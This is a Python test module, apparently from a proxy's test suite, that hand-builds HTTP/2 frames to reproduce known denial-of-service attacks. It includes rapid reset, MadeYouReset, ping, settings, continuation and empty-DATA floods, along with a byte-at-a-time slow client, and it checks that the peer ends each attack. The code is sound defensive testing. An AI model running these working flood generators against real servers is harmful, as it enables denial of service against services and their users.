"""HTTP/2 frames by hand and clients that mean no good. What they send is bounded; the peer is to end it before.

They run against Envoy as well, which shows that the attacks are what they claim to be.
"""

import struct
import time
from collections.abc import Iterator
from pathlib import Path

from hpack import Encoder

from .carriers import h2
from .carriers.link import Link, TlsLink

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 8
# Frames that are handed to the kernel in one go.
BURST = 64
# What an attack may take until it is stopped, or until everything has been sent.
SECONDS = 60.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113 section 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect_block(target: str) -> bytes:
    """A field block that leaves the dynamic table alone, and so can be sent again and again."""
    lines = [(b":method", b"CONNECT", True), (b":authority", target.encode(), True)]
    return Encoder().encode(lines)


def rapid_reset(target: str) -> Iterator[bytes]:
    """CVE-2023-44487: requests that are taken back at once, never more than one open."""
    block = connect_block(target)
    for stream in range(1, 40_001, 2):
        reset = frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        yield frame(HEADERS, END_HEADERS, stream, block) + reset


def made_you_reset(target: str) -> Iterator[bytes]:
    """CVE-2025-8671: requests that the server itself resets, because of a WINDOW_UPDATE of nothing."""
    block = connect_block(target)
    for stream in range(1, 40_001, 2):
        update = frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
        yield frame(HEADERS, END_HEADERS, stream, block) + update


def ping_flood(_: str) -> Iterator[bytes]:
    """CVE-2019-9512."""
    for number in range(200_000):
        yield frame(PING, 0, 0, struct.pack(">Q", number))


def settings_flood(_: str) -> Iterator[bytes]:
    """CVE-2019-9515."""
    for number in range(200_000):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100 + number % 7))


def continuation_flood(target: str) -> Iterator[bytes]:
    """CVE-2024-27316: a field block that never ends."""
    yield frame(HEADERS, 0, 1, connect_block(target))
    # A literal without indexing: name `a`, value of 4000 times `b`.
    line = b"\x00\x01a\x7f" + _hpack_integer(4000 - 127) + b"b" * 4000
    for _ in range(4000):
        yield frame(CONTINUATION, 0, 1, line * 4)


def empty_continuation_flood(target: str) -> Iterator[bytes]:
    """The same without a byte that a limit on the size of fields would count."""
    yield frame(HEADERS, 0, 1, connect_block(target))
    for _ in range(200_000):
        yield frame(CONTINUATION, 0, 1)


def empty_data_flood(target: str) -> Iterator[bytes]:
    """CVE-2019-9518: frames on an open tunnel that cost no flow control."""
    yield frame(HEADERS, END_HEADERS, 1, connect_block(target))
    for _ in range(400_000):
        yield frame(DATA, 0, 1)


FLOODS = [rapid_reset, made_you_reset, ping_flood, settings_flood, continuation_flood, empty_continuation_flood]
# These may go on, since they cost the peer no more than us.
NUISANCES = [empty_data_flood]


def _hpack_integer(value: int) -> bytes:
    encoded = b""
    while value >= 0x80:
        encoded += bytes([value & 0x7F | 0x80])
        value >>= 7
    return encoded + bytes([value])


def flood(proxy: str, ca: Path, frames: Iterator[bytes]) -> tuple[int, int | None, str | None]:
    """Sends `frames` until the peer ends the connection; how many went out, the code of its GOAWAY, and the end."""
    connection = h2.Connection(proxy, ca)
    link, sent = connection.link, 0
    deadline = time.monotonic() + SECONDS
    burst = b""
    for sent, piece in enumerate(frames, 1):
        burst += piece
        if sent % BURST == 0:
            _push(link, burst, deadline)
            burst = b""
        if link.end is not None or time.monotonic() > deadline:
            break
    else:
        _push(link, burst, deadline)
        # The peer may take a moment to find that it was too much.
        while link.end is None and time.monotonic() < deadline:
            link.pump(deadline - time.monotonic())
    link.close()
    return sent, goaway_code(bytes(link.received)), link.end


def _push(link: TlsLink, data: bytes, deadline: float) -> None:
    """Sends as `Link.send` does, and takes a connection that ends meanwhile for what it is."""
    try:
        link.send_until(data, deadline)
    except (AssertionError, OSError):
        # Ended, or stuck because the peer reads no more: `end` tells.
        pass


def goaway_code(received: bytes) -> int | None:
    """The error code of the last GOAWAY among the frames."""
    code, at = None, 0
    while at + 9 <= len(received):
        length = int.from_bytes(received[at : at + 3], "big")
        if received[at + 3] == 7 and at + 17 <= len(received):
            code = int.from_bytes(received[at + 13 : at + 17], "big")
        at += 9 + length
    return code


class Slow:
    """A client that says next to nothing: each `step` sends one more byte of `script`."""

    def __init__(self, link: Link, script: bytes = b"") -> None:
        self.link = link
        self._script = script

    def step(self) -> bool:
        """Whether the peer has given up on us."""
        if self.link.end is None and self._script:
            try:
                self.link.send(self._script[:1])
            except (AssertionError, OSError):
                pass
            self._script = self._script[1:]
        self.link.pump(0)
        return self.link.end is not None
